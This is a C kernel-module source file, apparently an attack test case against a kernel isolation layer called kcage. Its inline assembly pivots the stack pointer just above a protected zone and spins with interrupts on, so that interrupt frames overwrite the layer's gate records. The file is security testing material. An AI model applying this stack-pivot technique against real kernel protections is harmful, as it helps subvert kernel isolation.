// SPDX-License-Identifier: GPL-2.0
/*
 * atk_irq_floor: the kernel runs below the module's %rsp too.  A pivot
 * puts %rsp just above the least a pivot once allowed (256 bytes above
 * the zone at the bottom of the task's kernel stack), with chosen values
 * in every callee-saved register, and spins with interrupts on: each
 * timer interrupt, and a preemption at its exit, writes the interrupted
 * registers (pt_regs) and the kernel's frames below %rsp, down over the
 * gate records.  The zone's end, 2672 bytes above the stack's bottom,
 * is kcage's layout (rt/zone.h), which an attacker reads in its source.
 */
#include <linux/fs.h>
#include <asm/page_64_types.h>
#include "attack.h"

#define ZONE_END	2672

static int attack(struct file *f)
{
	asm volatile("push %%rbx\n\t"
		     "push %%rbp\n\t"
		     "push %%r12\n\t"
		     "push %%r13\n\t"
		     "push %%r14\n\t"
		     "push %%r15\n\t"
		     "mov %%rsp, %%rdx\n\t"
		     "mov %%rsp, %%rcx\n\t"
		     "and %[mask], %%rcx\n\t"
		     "add %[low], %%rcx\n\t"
		     "mov %%rax, %%rbx\n\t"
		     "mov %%rax, %%rbp\n\t"
		     "mov %%rax, %%r12\n\t"
		     "mov %%rax, %%r13\n\t"
		     "mov %%rax, %%r14\n\t"
		     "mov %%rax, %%r15\n\t"
		     "mov %%rcx, %%rsp\n\t"
		     "mov $0x200000, %%ecx\n\t"
		     "1: pause\n\t"
		     "dec %%ecx\n\t"
		     "jnz 1b\n\t"
		     "mov %%rdx, %%rsp\n\t"
		     "pop %%r15\n\t"
		     "pop %%r14\n\t"
		     "pop %%r13\n\t"
		     "pop %%r12\n\t"
		     "pop %%rbp\n\t"
		     "pop %%rbx"
		     : : "a"(0x4141414141414141UL),
		       [mask] "i"(~(THREAD_SIZE - 1L)), [low] "i"(ZONE_END + 264)
		     : "rcx", "rdx", "memory", "cc");
	return 0;
}
